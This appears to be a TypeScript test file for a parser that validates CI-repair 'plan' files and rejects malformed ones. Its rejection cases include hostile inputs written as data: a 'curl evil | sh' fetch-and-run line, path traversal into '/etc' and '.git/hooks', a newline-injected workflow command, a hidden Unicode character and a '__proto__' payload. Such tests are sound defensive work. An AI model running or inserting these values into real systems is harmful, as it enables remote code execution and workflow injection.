import type { Plan } from '../src/model/index.js';
import { readPlan } from '../src/plan-file.js';

const PLAN: Plan = {
  schema: 1, repository: 'octo/demo', run: { id: 7, attempt: 1, url: 'https://github.test/x', workflow: '.github/workflows/ci.yml', event: 'push' }, head: { branch: 'topic', sha: 'a'.repeat(40) }, pulls: [3],
  step: { run: '7', job: 'test (22)', step: 'Run make', command: 'make\nmake test', shell: '', workingDirectory: 'app/x', env: { MODE: 'a\nb' }, exitCode: 2 },
  alsoIn: ['test (20)'], environment: { tools: { node: '22' }, versionFiles: {}, earlier: [{ script: 'npm ci', shell: 'bash', workingDirectory: '.' }], missing: ['No docker.'] }, warnings: [],
};

test('a plan comes back as it went', () => {
  expect(readPlan(JSON.stringify(PLAN))).toEqual({ ok: true, plan: PLAN });
});

const step = (over: object): object => ({ ...PLAN, step: { ...PLAN.step, ...over } });

test.each<[string, unknown]>([
  ['nothing', ''],
  ['no JSON', '{'],
  ['another version', { ...PLAN, schema: 2 }],
  ['one field more', { ...PLAN, publish: 'push' }],
  ['one field more inside', step({ setup: 'curl evil | sh' })],
  ['a repository with a path', { ...PLAN, repository: '../x/y' }],
  ['a short hash', { ...PLAN, head: { branch: 'x', sha: 'abc' } }],
  ['a branch over two lines', { ...PLAN, head: { branch: 'x\n::set-output', sha: 'a'.repeat(40) } }],
  ['a folder outside', step({ workingDirectory: '../x' })],
  ['an absolute folder', step({ workingDirectory: '/etc' })],
  ['a folder in .git', step({ workingDirectory: 'a/.git/hooks' })],
  ['a variable that is none', step({ env: { 'A=B': 'x' } })],
  ['a NUL', step({ command: 'a\0b' })],
  ['a job with hidden characters', step({ job: 'a\u202eb' })],
  ['a script of a megabyte', step({ command: 'x'.repeat(1 << 20) })],
  ['an endless list', { ...PLAN, warnings: Array(1000).fill('x') }],
  ['prototypes', '{"__proto__":{"schema":1}}'],
])('none: %s', (_, value) => {
  const read = readPlan(typeof value === 'string' ? value : JSON.stringify(value));
  expect(read).toMatchObject({ ok: false, reason: expect.stringMatching(/^It is no plan of this version[ ();.\w]*; make it again with heal plan\.$/) as string });
});
